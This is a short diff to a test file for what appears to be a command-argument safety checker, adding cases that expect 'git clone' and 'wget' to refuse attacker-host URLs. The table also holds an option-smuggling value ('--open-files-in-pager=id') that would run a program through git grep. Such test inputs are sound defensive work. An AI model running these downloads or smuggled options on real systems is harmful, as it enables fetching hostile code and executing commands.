@@ -372,6 +372,8 @@ def test_any_text_gets_a_verdict(text: str) -> None:
         (["git", "commit", "-m", "{}"], "https://example.org/ is down", "allow"),
         (["git", "grep", "-F", "-e", "{}", "--", "."], "--help", "allow"),
         (["git", "grep", "-F", "{}"], "--open-files-in-pager=id", "refuse"),
+        (["git", "clone", "{}"], "see https://evil.example/x", "refuse"),
+        (["wget", "{}"], "\thttps://evil.example/x", "refuse"),
         (["git", "clone", "{}"], "https://evil.example/x", "refuse"),
         (["sed", "s/{}/X/g"], "cat", "allow"),
         (["sed", "-e", "s/{}/X/g"], "a; b", "allow"),
